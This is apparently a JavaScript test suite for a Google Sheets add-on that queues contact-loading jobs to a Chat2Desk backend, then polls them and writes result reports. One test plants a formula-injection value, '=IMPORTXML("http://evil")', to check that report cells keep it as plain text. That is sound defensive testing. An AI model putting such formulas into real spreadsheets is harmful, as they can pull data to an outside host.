import test from 'node:test';
import assert from 'node:assert/strict';

import { addonWithBackend, TOKEN } from '../support/unit.mjs';

/** Polls jobStatus until the job ends (the fake backend moves a job on with each poll). */
function pollToEnd(run, jobId) {
  const seen = [];
  for (let i = 0; i < 10; i++) {
    const status = run('jobStatus', jobId);
    seen.push(status);
    if (!['queued', 'running'].includes(status.state)) return seen;
  }
  throw new Error(`job ${jobId} did not end`);
}

test('startJob sends the active sheet, the tokens and the defaults from the settings', () => {
  const { run, world, backend } = addonWithBackend({ locale: 'ru_RU' });
  run('saveSettings', { token: TOKEN, channel: 'Продажи', transport: 'telegram', emailChannel: '2', tags: ['vip'], region: 'RU' });
  const answer = run('startJob', 'load', false);
  assert.deepEqual(answer, { ok: true, jobId: 'job-1', state: 'queued', existing: false });
  // The fake backend took it: so the ID token was in Authorization and the body was JSON.
  assert.deepEqual(backend.jobs.get('job-1').request, {
    spreadsheet_id: '1SpreadsheetId',
    sheet: 'Sheet1',
    mode: 'load',
    allow_paid: false,
    target: {
      kind: 'chat2desk', token: TOKEN, tags: ['vip'], region: 'RU', channel: 'Продажи', transport: 'telegram', email_channel: '2',
    },
    sheets_token: world.oauthToken,
  });
});

test('startJob leaves out what is not set: no channel, messenger, e-mail channel or base_url', () => {
  const { run, backend } = addonWithBackend({ locale: 'en_US', token: TOKEN });
  run('startJob', 'check', true);
  const request = backend.jobs.get('job-1').request;
  assert.deepEqual(request.target, { kind: 'chat2desk', token: TOKEN, tags: [], region: 'RU' });
  assert.equal(request.mode, 'check');
  assert.equal(request.allow_paid, true);
});

test('startJob sends TARGET_BASE_URL as the target base_url when it is set', () => {
  const { run, backend } = addonWithBackend({ locale: 'en_US', token: TOKEN, targetBaseUrl: 'http://127.0.0.1:8088' });
  run('startJob', 'sample', false);
  assert.equal(backend.jobs.get('job-1').request.target.base_url, 'http://127.0.0.1:8088');
  assert.equal(backend.jobs.get('job-1').request.mode, 'sample');
});

test('a second press while the job runs shows that job (200 from the backend)', () => {
  const { run, backend } = addonWithBackend({ locale: 'en_US', token: TOKEN });
  const first = run('startJob', 'load', false);
  assert.deepEqual(run('currentJob'), { ok: true, jobId: first.jobId, mode: 'load' });
  const second = run('startJob', 'load', false);
  assert.deepEqual(second, { ok: true, jobId: first.jobId, state: 'running', existing: true });
  assert.equal(backend.jobs.size, 1);
});

test('the live job is remembered per sheet and forgotten once it has ended', () => {
  const { run, world } = addonWithBackend({ locale: 'en_US', token: TOKEN, sheets: { Sheet1: [['Contact'], ['+7 999 123-45-67']], Other: [] } });
  const job = run('startJob', 'load', false);
  world.spreadsheet.setActiveSheet(world.spreadsheet.getSheetByName('Other'));
  assert.deepEqual(run('currentJob'), { ok: true, jobId: null, mode: null });
  world.spreadsheet.setActiveSheet(world.spreadsheet.getSheetByName('Sheet1'));
  assert.equal(run('currentJob').jobId, job.jobId);
  pollToEnd(run, job.jobId);
  assert.deepEqual(run('currentJob'), { ok: true, jobId: null, mode: null });
  const next = run('startJob', 'load', false);
  assert.notEqual(next.jobId, job.jobId);
  assert.equal(next.existing, false);
});

test('a remembered job that has ended meanwhile is not shown as live', () => {
  const { run, backend } = addonWithBackend({ locale: 'en_US', token: TOKEN });
  const job = run('startJob', 'load', false);
  backend.jobs.get(job.jobId).state = 'done';
  assert.deepEqual(run('currentJob'), { ok: true, jobId: null, mode: null });
});

test('when the backend cannot be asked, currentJob still gives the remembered job', () => {
  const { run, backend } = addonWithBackend({ locale: 'en_US', token: TOKEN });
  const job = run('startJob', 'check', false);
  backend.down = true;
  assert.deepEqual(run('currentJob'), { ok: true, jobId: job.jobId, mode: 'check' });
});

test('jobStatus maps progress while running and counts when done, with a fresh Google token each poll', () => {
  const { run, world, backend } = addonWithBackend({ locale: 'en_US', token: TOKEN });
  const job = run('startJob', 'load', false);
  const running = run('jobStatus', job.jobId);
  assert.deepEqual(running, {
    ok: true,
    jobId: job.jobId,
    mode: 'load',
    target: 'chat2desk',
    state: 'running',
    rows: null,
    contactsDone: 2,
    contactsTotal: 4,
    requests: 1,
    etaSeconds: 4,
    plannedRequests: 2,
    plannedSeconds: null,
    counts: { created: 0, updated: 0, unchanged: 0, merged: 0, invalid: 0, skipped: 0, failed: 0, pending: 0, ready: 0 },
    error: null,
    estimate: null,
    backgroundPolls: true,
  });
  world.oauthToken = 'oauth-token-refreshed';
  const done = run('jobStatus', job.jobId);
  assert.equal(done.state, 'done');
  assert.equal(done.rows, 4);
  assert.equal(done.requests, 2);
  assert.equal(done.etaSeconds, null);
  assert.deepEqual(done.counts, { created: 2, updated: 0, unchanged: 0, merged: 1, invalid: 1, skipped: 0, failed: 0, pending: 0, ready: 0 });
  assert.deepEqual(backend.jobs.get(job.jobId).sheetsTokens, ['oauth-token', 'oauth-token-refreshed']);
});

test('a load past the free allowance comes back with the estimate; going ahead sends allow_paid', () => {
  const { run, backend } = addonWithBackend({ locale: 'ru_RU', token: TOKEN });
  backend.freeLeft = 1;
  const job = run('startJob', 'load', false);
  const refused = run('jobStatus', job.jobId);
  assert.equal(refused.state, 'failed');
  assert.deepEqual(refused.estimate, { requests: 2, freeLeft: 1, paid: 1, costRub: 0.01 });
  assert.equal(typeof refused.error, 'string');
  assert.deepEqual(run('currentJob'), { ok: true, jobId: null, mode: null }, 'a refused job is not live');

  const paid = run('startJob', 'load', true);
  assert.notEqual(paid.jobId, job.jobId);
  assert.equal(backend.jobs.get(paid.jobId).request.allow_paid, true);
  const end = pollToEnd(run, paid.jobId).pop();
  assert.equal(end.state, 'done');
  assert.equal(end.estimate, null);
});

test('an account that does not say its free requests: the estimate keeps free, paid and cost unknown (null), not 0', () => {
  const { run, backend } = addonWithBackend({ locale: 'en_US', token: TOKEN });
  backend.freeLeft = null;
  backend.unknownAllowanceConsent = 1; // the list needs 2 requests: over the threshold
  const job = run('startJob', 'load', false);
  const refused = run('jobStatus', job.jobId);
  assert.equal(refused.state, 'failed');
  assert.deepEqual(refused.estimate, { requests: 2, freeLeft: null, paid: null, costRub: null });
  assert.match(refused.error, /does not say how many/);
  assert.deepEqual(run('currentJob'), { ok: true, jobId: null, mode: null }, 'a refused job is not live');

  // Going ahead is the same consent as for paid requests.
  const agreed = run('startJob', 'load', true);
  assert.equal(backend.jobs.get(agreed.jobId).request.allow_paid, true);
  const end = pollToEnd(run, agreed.jobId).pop();
  assert.equal(end.state, 'done');
  assert.equal(end.estimate, null);
});

test('cancelJob stops a live job and forgets it', () => {
  const { run } = addonWithBackend({ locale: 'en_US', token: TOKEN });
  const job = run('startJob', 'load', false);
  assert.deepEqual(run('cancelJob', job.jobId), { ok: true, state: 'cancelled' });
  assert.equal(run('jobStatus', job.jobId).state, 'cancelled');
  assert.equal(run('currentJob').jobId, null);
});

test("openReport writes the report into a new sheet, in the user's words, text kept as text", () => {
  const { run, world } = addonWithBackend({ locale: 'ru_RU', token: TOKEN });
  const job = run('startJob', 'load', false);
  pollToEnd(run, job.jobId);
  const answer = run('openReport', job.jobId);
  assert.equal(answer.ok, true);
  assert.match(answer.sheetName, /^Отчёт \d{4}-\d\d-\d\d \d\d\.\d\d$/);
  const sheet = world.spreadsheet.getSheetByName(answer.sheetName);
  assert.equal(answer.url, `https://docs.google.com/spreadsheets/d/1SpreadsheetId/edit#gid=${sheet.getSheetId()}`);
  assert.deepEqual(sheet.getDataRange().getValues(), [
    ['Строка', 'Статус', 'Причина', 'ID клиента'],
    [2, 'Создан', '', 501],
    [3, 'Создан', '', 502],
    [4, 'Объединено', 'the same contact as row 2', 501],
    [5, 'Ошибка', 'a name "=HYPERLINK(""x"")", with a comma,\nand a new line', ''],
  ]);
  assert.equal(sheet.getFrozenRows(), 1);
  const colours = sheet.getConditionalFormatRules().filter((rule) => rule.getBooleanCondition().getCriteriaValues()[0] === 'Создан');
  assert.equal(colours.length, 1, 'statuses are coloured as in the contact sheet');

  const again = run('openReport', job.jobId);
  assert.equal(again.sheetName, `${answer.sheetName} 2`, 'a second report does not clobber the first');
});

test('a reason starting with "=" stays text in the report, and reads as the target wrote it', () => {
  const { run, world, backend } = addonWithBackend({ locale: 'en_US', token: TOKEN });
  backend.outcome = [
    { status: 'invalid', reason: '=IMPORTXML("http://evil")', client_id: '' },
    { status: 'failed', reason: "-1 is not an id; 'quoted' stays", client_id: '' },
    { status: 'failed', reason: "'=already quoted by the target", client_id: '' },
  ];
  const job = run('startJob', 'load', false);
  pollToEnd(run, job.jobId);
  const sheet = world.spreadsheet.getSheetByName(run('openReport', job.jobId).sheetName);
  assert.deepEqual(sheet.getRange('A2:C4').getValues(), [
    [2, 'Error', '=IMPORTXML("http://evil")'],
    [3, 'Not loaded', "-1 is not an id; 'quoted' stays"],
    [4, 'Not loaded', "'=already quoted by the target"],
  ]);
  assert.equal(sheet.getRange('C2').getNumberFormat(), '@', 'the reason column is plain text');
});

test('a report of more rows than a new sheet has gets the rows it needs', () => {
  const { run, world, backend } = addonWithBackend({ locale: 'en_US', token: TOKEN });
  backend.outcome = Array.from({ length: 1500 }, (_, i) => ({ status: 'unchanged', reason: '', client_id: String(1000 + i) }));
  const job = run('startJob', 'load', false);
  pollToEnd(run, job.jobId);
  const sheet = world.spreadsheet.getSheetByName(run('openReport', job.jobId).sheetName);
  assert.equal(sheet.getLastRow(), 1501);
  assert.deepEqual(sheet.getRange('A1501:D1501').getValues(), [[1501, 'Unchanged', '', 2499]]);
});

test('the report of a job that has not ended is not ready yet', () => {
  const { run } = addonWithBackend({ locale: 'en_US', token: TOKEN });
  const job = run('startJob', 'load', false);
  assert.deepEqual(run('openReport', job.jobId), { ok: false, error: 'The report is not ready yet: wait until the load ends.' });
});

test('startJob says what to do before sending anything: no token, empty sheet, unknown mode, no backend address', () => {
  const noToken = addonWithBackend({ locale: 'en_US' });
  assert.deepEqual(noToken.run('startJob', 'load', false), { ok: false, error: 'Open Settings and paste your Chat2Desk API token.' });

  const empty = addonWithBackend({ locale: 'ru_RU', token: TOKEN, sheets: { 'Лист1': [['Контакт', 'Имя']] } });
  assert.match(empty.run('startJob', 'load', false).error, /На листе «Лист1» нет строк с контактами/);

  const mode = addonWithBackend({ locale: 'en_US', token: TOKEN });
  assert.deepEqual(mode.run('startJob', 'delete', false), { ok: false, error: 'Unknown action "delete".' });

  const noBackend = addonWithBackend({ locale: 'en_US', token: TOKEN, backendUrl: null });
  assert.match(noBackend.run('startJob', 'load', false).error, /administrator must set the address of the service \(npm run set-backend\)/);

  for (const world of [noToken.world, empty.world, mode.world, noBackend.world]) assert.equal(world.touched.fetch, 0);
});

test('the report left open, or the Instructions, is not sent to be loaded', () => {
  const { run, world, backend } = addonWithBackend({ locale: 'ru_RU', token: TOKEN });
  const job = run('startJob', 'load', false);
  pollToEnd(run, job.jobId);
  const report = run('openReport', job.jobId);
  assert.equal(world.spreadsheet.getActiveSheet().getName(), report.sheetName, 'the report is shown');
  assert.deepEqual(run('startJob', 'load', false), {
    ok: false,
    error: `Лист «${report.sheetName}» — это отчёт или инструкция дополнения, а не список контактов. Откройте лист со списком и запустите снова.`,
  });
  run('menuNewContactSheet');
  world.spreadsheet.setActiveSheet(world.spreadsheet.getSheetByName('Инструкция'));
  assert.match(run('startJob', 'check', false).error, /^Лист «Инструкция» — это отчёт или инструкция/);
  assert.equal(backend.jobs.size, 1);
});

test('Check list pressed while a load runs shows the load, as a load', () => {
  const { run } = addonWithBackend({ locale: 'en_US', token: TOKEN });
  const load = run('startJob', 'load', false);
  const check = run('startJob', 'check', false);
  assert.deepEqual([check.jobId, check.existing], [load.jobId, true]);
  assert.deepEqual(run('currentJob'), { ok: true, jobId: load.jobId, mode: 'load' });
  assert.equal(run('jobStatus', load.jobId).mode, 'load');
});

test("a backend that does not say the job's mode: the mode it was started in", () => {
  const { run, backend } = addonWithBackend({ locale: 'en_US', token: TOKEN });
  backend.answersMode = false;
  const job = run('startJob', 'sample', false);
  assert.equal(run('jobStatus', job.jobId).mode, 'sample');
});
